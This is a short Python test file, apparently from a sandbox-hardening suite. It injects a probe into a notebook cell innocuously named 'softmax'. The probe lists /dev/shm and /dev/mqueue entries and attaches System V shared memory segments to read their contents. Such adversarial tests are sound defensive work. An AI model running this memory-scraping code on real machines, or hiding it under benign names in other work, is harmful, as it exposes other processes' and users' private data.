"""Reads every piece of shared memory and every message queue of the machine."""

from tests.hostile.attack_tools import LOOK, append

POINTS = {}

CODE = """
import ctypes, glob

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*") + glob.glob("/run/shm/*"):
    look(path)
for number in range(200):
    address = libc.shmat(number, None, 0o10000)  # SHM_RDONLY
    if address not in (None, 2**64 - 1):
        look(ctypes.string_at(address, 4096).decode(errors="replace"), what="text")
"""


def make(nb):
    append(nb, "softmax", LOOK + CODE)
